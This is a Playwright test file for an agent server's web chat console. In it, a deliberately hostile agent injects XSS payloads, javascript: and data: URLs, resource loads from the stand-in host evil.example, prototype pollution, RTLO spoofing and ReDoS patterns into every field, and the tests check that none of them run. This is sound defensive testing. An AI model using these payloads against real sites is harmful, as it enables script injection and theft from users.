"""An agent that attacks the reader of its answers: everything is shown as text, nothing runs, nothing is loaded."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.async_api import Browser, expect

from errands import A2AServer, AgentCardConfig, CapabilitiesConfig, TaskContext, Worker
from errands.model.card_config import SkillConfig
from tests.console.browser import tab
from tests.live import live

pytestmark = pytest.mark.anyio

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    'x" onerror="alert(1)" x="',
    "x' onmouseover='alert(1)",
    f"<svg onload=alert(1)><image href='{EVIL}/svg'/></svg>",
    f"<iframe src='{EVIL}/frame'></iframe><object data='{EVIL}/object'></object>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'><base href='{EVIL}/'>",
    f"<style>body {{ background: url({EVIL}/style) }}</style><link rel=stylesheet href={EVIL}/css>",
    f"<form action='{EVIL}'><input name=q></form>",
    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [v](vbscript:alert(1))",
    "[tab](java\tscript:alert(1)) [case](JaVaScRiPt:alert(1)) [space]( javascript:alert(1))",
    f"![picture]({EVIL}/picture.png) ![js](javascript:alert(1)) [![both]({EVIL}/inner)](javascript:alert(1))",
    "<javascript:alert(1)> [ref]: javascript:alert(1)\n\n[ref]",
    "```html\n<script>alert('fence')</script>\n```",
    "| <script>alert(1)</script> | `</code><script>alert(2)</script>` |\n|---|---|\n| <b onclick=alert(1)>x</b> | y |",
    "\u202egnp.exe\u202c\u200b\u0000",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "[" * 3000 + "*" * 3000 + "`" * 3000 + "> " * 3000,
)
NESTED: object = "end"
for _ in range(35):
    NESTED = {"<b>": [NESTED]}


SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='{EVIL}/in-svg'/></svg>"


class Hostile(Worker):
    """Puts the payloads into every field that it can write; the first word says which."""

    async def handle(self, ctx: TaskContext) -> None:
        word = ctx.user_text.partition(" ")[0]
        if word == "ask":
            properties = {
                f'f{index}"><img src=x onerror=alert(1)>': {
                    "type": "string",
                    "title": payload,
                    "description": payload,
                    "default": payload,
                    "enum": [payload, "b"] if index % 2 else None,
                    "pattern": "(a+)+$",
                }
                for index, payload in enumerate(PAYLOADS[:-1])
            }
            schema = {
                "type": "object",
                "properties": {**properties, "again": {"$ref": "#"}, "__proto__": {"type": "string"}},
            }
            await ctx.request_input(PAYLOADS[0], schema=schema)
        elif word == "sign":
            await ctx.request_auth(
                PAYLOADS[1], schemes=list(PAYLOADS[:3]), auth_url="javascript:alert(1)", credentials_hint=PAYLOADS[2]
            )
        elif word == "fail":
            await ctx.fail(PAYLOADS[1] + PAYLOADS[4])
        else:
            await ctx.send_status(PAYLOADS[0])
            for index, payload in enumerate(PAYLOADS):
                await ctx.emit_artifact(
                    artifact_id=f'a{index}" onload="', text=payload, name=payload[:200], description=payload[:200]
                )
                await ctx.emit_artifact(artifact_id=f"t{index}", text=payload, media_type=f"text/html{payload[:50]}")
                for place in (
                    f"{EVIL}/{index}.png",
                    "javascript:alert(1)",
                    f'{EVIL}/x" onerror="alert(1)',
                    "data:text/html,<script>alert(1)</script>",
                ):
                    await ctx.emit_artifact(
                        artifact_id=f"u{index}{place}", file_url=place, media_type="image/png", filename=payload[:100]
                    )
            html = b"<html><script>alert(1)</script></html>"
            for name, content in {
                "page.png": html,
                "drawing.png": SVG.encode(),
                "picture.gif": b"GIF89a" + html,
            }.items():
                await ctx.emit_artifact(artifact_id=name, file_bytes=content, media_type="image/png", filename=name)
            await ctx.emit_data_artifact(
                {"__proto__": {"polluted": PAYLOADS[0]}, "<img src=x onerror=alert(1)>": list(PAYLOADS), "deep": NESTED}
            )
            await ctx.complete("The end")


@pytest.fixture(scope="module")
def hostile() -> Iterator[str]:
    card = AgentCardConfig(
        name=PAYLOADS[0],
        description=PAYLOADS[1] + PAYLOADS[5],
        capabilities=CapabilitiesConfig(streaming=True),
        skills=[
            SkillConfig(
                id="a", name=payload[:300], description=payload[:300], tags=[payload[:50]], examples=[payload[:200]]
            )
            for payload in PAYLOADS
        ],
    )
    server = A2AServer(worker=Hostile(), agent_card=card, storage="memory", console="on")
    with live(server.app, lifespan="on") as url:
        yield url


async def test_nothing_that_an_agent_answers_runs_or_is_loaded(browser: Browser, hostile: str) -> None:
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await expect(opened.page.locator(".welcome h2")).to_have_text(PAYLOADS[0])
        await opened.send(f"all {PAYLOADS[0]}")
        await opened.page.wait_for_selector(".turn-foot .tone-good")
        await expect(opened.page.locator(".bubble").last).to_contain_text("The end")
        await expect(
            opened.page.locator(".talk-scroll script, .talk-scroll iframe, .talk-scroll style, .talk-scroll form")
        ).to_have_count(0)
        shown = await opened.page.locator(".talk-scroll a").evaluate_all("links => links.map((link) => link.href)")
        assert [link for link in shown if not link.startswith((hostile, EVIL, "blob:"))] == []
        # The only picture is the one whose first bytes are those of one, and it is no picture.
        await expect(opened.page.locator(".talk-scroll img")).to_have_count(0)
        assert await opened.page.evaluate("({}).polluted") is None
        await expect(opened.page.get_by_text("\u2039U+202E\u203a").first).to_be_visible()
        await opened.picture("hostile")
        await opened.check()


async def test_a_text_that_is_hard_to_read_as_markdown_does_not_stop_the_page(browser: Browser, hostile: str) -> None:
    units = (
        "*",
        "**a",
        "_a",
        "`",
        "`a``",
        "[",
        "[a](",
        "![",
        "<",
        "~~",
        "http://",
        "a\n",
        "> ",
        "- a\n  ",
        "|",
        "1. a\n",
    )
    paint = """async (units) => {
        const { Markdown } = await import("/console/static/markdown.js");
        const { html, render } = await import("/console/static/vendor/preact.js");
        const began = performance.now();
        for (const unit of units) {
            const text = unit.repeat(200_000 / unit.length);
            render(html`<${Markdown} text=${text} />`, document.createElement("div"));
        }
        return performance.now() - began;
    }"""
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await opened.page.wait_for_selector("#message")
        # Quadratic work would take minutes.
        assert await opened.page.evaluate(paint, list(units)) < 30_000


async def test_a_link_whose_words_contain_its_host_but_name_another_shows_where_it_leads(
    browser: Browser, hostile: str
) -> None:
    paint = """async (text) => {
        const { Markdown } = await import("/console/static/markdown.js");
        const { html, render } = await import("/console/static/vendor/preact.js");
        const place = document.createElement("div");
        render(html`<${Markdown} text=${text} />`, place);
        return place.textContent;
    }"""
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await opened.page.wait_for_selector("#message")
        for text, shown in {
            "[https://bank.example](https://k.example/x)": "https://bank.example (k.example)",
            "[bank.example k.example](https://k.example)": "bank.example k.example (k.example)",
            "[https://k.example/x](https://k.example/y)": "https://k.example/x",
            "[k.example](https://k.example)": "k.example",
            "https://k.example/x": "https://k.example/x",
        }.items():
            assert await opened.page.evaluate(paint, text) == shown


async def test_a_path_that_is_an_address_does_not_get_the_credentials(browser: Browser, hostile: str) -> None:
    load = """async (path) => {
        const { request, signIn } = await import("/console/static/api.js");
        signIn({ in: "header", name: "X-API-Key", value: "secret" });
        await request(path).catch(() => {});
    }"""
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await opened.page.wait_for_selector("#message")
        asked: list[str] = []
        opened.page.on("request", lambda request: asked.append(request.url))
        # An agent sends ROOT/https://evil.example/blobs/x as the address of a file of this server.
        for path in (f"{EVIL}/blobs/x", f"/{EVIL}/blobs/x", "//evil.example/blobs/x"):
            await opened.page.evaluate(load, path)
        assert [url for url in asked if url.endswith("/blobs/x") and not url.startswith(hostile)] == []
        assert len([url for url in asked if url.endswith("/blobs/x")]) == 3


async def test_a_form_whose_alternatives_refer_to_themselves_is_there_at_once(browser: Browser, hostile: str) -> None:
    paint = """async () => {
        const { SchemaForm } = await import("/console/static/form.js");
        const { html, render } = await import("/console/static/vendor/preact.js");
        const again = { anyOf: Array(60).fill({ $ref: "#/$defs/a" }) };
        const schema = { type: "object", $defs: { a: again }, properties: { x: { $ref: "#/$defs/a" } } };
        const began = performance.now();
        render(html`<${SchemaForm} schema=${schema} onAnswer=${() => {}} />`, document.createElement("div"));
        return performance.now() - began;
    }"""
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await opened.page.wait_for_selector("#message")
        assert await opened.page.evaluate(paint) < 2000


async def test_neither_does_what_it_asks_and_why_it_fails(browser: Browser, hostile: str) -> None:
    async with tab(browser, hostile) as opened:
        for word in ("ask", "sign", "fail"):
            await opened.open("/chat")
            await opened.send(f"{word} me")
            await opened.page.wait_for_selector(".turn-foot .state")
            if word == "ask":
                await expect(opened.page.locator(".schema-form")).to_be_visible()
            await opened.check()


async def test_neither_does_what_is_on_the_other_pages(browser: Browser, hostile: str) -> None:
    async with tab(browser, hostile) as opened:
        await opened.open("/chat")
        await opened.send("all")
        await opened.page.wait_for_selector(".turn-foot .tone-good")
        for place in ("/console", "/console/agent", "/console/reviews", "/console/ops", "/console/tasks"):
            await opened.open(place)
            await opened.page.wait_for_selector("h1")
            await opened.check()
        await opened.page.locator("a.row-link").first.click()
        for name in ("Timeline", "Conversation", "Artifacts", "Raw"):
            await opened.page.locator(".tabs").get_by_text(name).click()
            await expect(opened.page.locator(".tabs [aria-current=page], .tabs [aria-selected=true]")).to_contain_text(
                name
            )
            await opened.check()
